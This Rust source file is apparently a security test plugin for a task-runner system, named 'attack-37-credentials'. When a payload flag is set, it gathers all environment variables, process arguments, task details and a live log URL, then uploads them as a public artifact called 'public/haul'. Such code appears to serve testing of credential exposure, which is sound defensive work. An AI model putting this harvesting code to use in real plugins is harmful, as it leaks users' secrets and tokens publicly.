//! Looks for credentials wherever a plugin can look: `attack37: true`. What it finds it stores as `public/haul`, and says how
//! much of each there was in a line that begins with `37:`.

use plugin_sdk::{
    HookError, NewTask, NoConfig, Plugin, ResultSet, Sandbox, TaskPlugin,
    artifacts::{self, Encoding, Options},
    files, task_definition, task_log,
};
use serde::Deserialize;
use test_plugins::say;

struct Credentials(Option<Vec<String>>);

#[derive(Debug, Deserialize)]
struct Payload {
    #[serde(default)]
    attack37: bool,
}

impl Plugin for Credentials {
    type Config = NoConfig;
    const NAME: &'static str = "attack-37-credentials";
    const VERSION: &'static str = "1.0.0";
    const SUMMARY: &'static str = "Looks for credentials.";
    const PAYLOAD_SCHEMA: &'static str =
        r#"{"type": "object", "properties": {"attack37": {"type": "boolean"}}}"#;
}

impl TaskPlugin for Credentials {
    type Payload = Payload;

    fn new_task(task: NewTask<Self>) -> Result<Self, HookError> {
        if !task.payload.as_ref().is_some_and(|payload| payload.attack37) {
            return Ok(Self(None));
        }
        let variables: Vec<_> = std::env::vars_os().collect();
        let arguments: Vec<_> = std::env::args_os().collect();
        say(&format!(
            "37: {} variables, {} arguments",
            variables.len(),
            arguments.len()
        ));
        Ok(Self(Some(vec![
            format!("{variables:?} {arguments:?}"),
            format!("{:?} {:?}", task.task, task.worker),
            task_definition::get(),
        ])))
    }

    fn started(&mut self, _sandbox: &Sandbox) -> Result<(), HookError> {
        if let Some(haul) = &mut self.0 {
            haul.push(format!("{:?}", task_log::live_url()));
        }
        Ok(())
    }

    fn stopped(&mut self, _results: &ResultSet) -> Result<bool, HookError> {
        if let Some(haul) = &self.0 {
            let options = Options {
                content_type: "text/plain".to_owned(),
                expires: None,
            };
            let file = files::from_bytes(haul.join("\n").as_bytes())?;
            artifacts::upload("public/haul", file, Encoding::Identity, &options)?;
        }
        Ok(true)
    }
}

plugin_sdk::export_task_plugin!(Credentials);
